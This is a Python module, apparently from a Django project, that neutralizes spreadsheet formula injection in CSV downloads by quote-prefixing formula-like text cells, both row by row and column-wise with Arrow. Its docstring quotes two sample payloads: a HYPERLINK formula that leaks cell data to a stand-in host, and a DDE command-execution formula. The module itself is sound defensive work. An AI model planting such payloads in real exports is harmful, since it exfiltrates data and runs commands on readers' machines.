"""Cells a spreadsheet will not run: every CSV download goes through here (decision 0010).

A spreadsheet opening a CSV takes a cell that starts with = + - @ (or a tab or carriage return
before one) as a formula, so an imported value such as `=HYPERLINK("http://x?"&A1,"y")` or
`=cmd|' /C calc'!A0` would run on the reader's machine. OWASP's rule: prefix such a text cell
with a single quote, which the spreadsheet shows as text and does not display.

Numbers are left alone so numeric columns stay numeric: int, float and Decimal values, and text
that is nothing but a number ("-5", "+0.25", "-1e3"), which a spreadsheet reads as that number
and cannot make into a formula. "-1+1" is not a number and is neutralized.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc
from django.http import StreamingHttpResponse

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

# ASCII digits only: a spreadsheet reads no others as a number. Also used by Arrow's RE2, where
# `$` is the end of the text (Python's fullmatch gives the same).
_NUMBER = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER_RE = re.compile(_NUMBER)
_ARROW_FIRST = pa.array(DANGEROUS_FIRST, pa.string())
_ARROW_NUMBER = f"^{_NUMBER}$"

# Excel reads accents right in a UTF-8 CSV only with the byte-order mark.
BOM = "\ufeff"


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula."""
    return (bool(text) and text[0] in DANGEROUS_FIRST
            and _NUMBER_RE.fullmatch(text) is None)


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should get it: formula-like text prefixed with a quote,
    everything else (numbers, blanks, plain text) unchanged."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = value if isinstance(value, str) else str(value)
    return QUOTE + text if is_dangerous(text) else value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row made safe."""
    return [safe_cell(value) for value in row]


class SafeCsvWriter:
    """A csv.writer whose every row is made safe before it is written."""

    def __init__(self, stream, **fmtparams):
        self._writer = csv.writer(stream, **fmtparams)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _Echo:
    """A file that hands back what is written, so a csv writer yields lines."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]], *,
              bom: bool = True) -> Iterator[str]:
    """A CSV's lines, one at a time (header first, byte-order mark before it), cells made safe."""
    writer = SafeCsvWriter(_Echo())
    yield (BOM if bom else "") + writer.writerow(header)
    for row in rows:
        yield writer.writerow(row)


def csv_download(filename: str, header: Iterable[Any],
                 rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    """A streamed CSV attachment (UTF-8 with BOM) of the header and rows, cells made safe."""
    response = StreamingHttpResponse(csv_lines(header, rows),
                                     content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# ---- Arrow: the same rule on whole columns, for files written with pyarrow.csv ------------------

def _safe_strings(array: pa.Array) -> pa.Array:
    """A string array with its formula-like values prefixed, computed column-wise."""
    # The first character against the set: three times faster than an anchored regex.
    first = pc.utf8_slice_codeunits(array, start=0, stop=1)
    risky = pc.fill_null(pc.is_in(first, value_set=_ARROW_FIRST), False)
    if not pc.any(risky).as_py():  # the usual case: nothing to do, nothing copied
        return array
    risky = pc.and_not(risky, pc.fill_null(pc.match_substring_regex(array, _ARROW_NUMBER), False))
    prefixed = pc.utf8_replace_slice(array, start=0, stop=0, replacement=QUOTE)
    return pc.if_else(risky, prefixed, array)


def _safe_array(array: pa.Array) -> pa.Array:
    kind = array.type
    if pa.types.is_string(kind) or pa.types.is_large_string(kind):
        return _safe_strings(array)
    if pa.types.is_dictionary(kind) and (pa.types.is_string(kind.value_type)
                                         or pa.types.is_large_string(kind.value_type)):
        # Only the distinct values need looking at; the indices stay as they are.
        return pa.DictionaryArray.from_arrays(array.indices, _safe_strings(array.dictionary))
    return array


def safe_arrow_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A column with its text values made safe (other types returned unchanged)."""
    if isinstance(column, pa.ChunkedArray):
        return pa.chunked_array([_safe_array(chunk) for chunk in column.chunks], type=column.type)
    return _safe_array(column)


def safe_arrow_table(table: pa.Table) -> pa.Table:
    """The table with every text column made safe; numbers, dates and flags untouched."""
    for index, field in enumerate(table.schema):
        column = table.column(index)
        safe = safe_arrow_column(column)
        if safe is not column:
            table = table.set_column(index, field, safe)
    return table
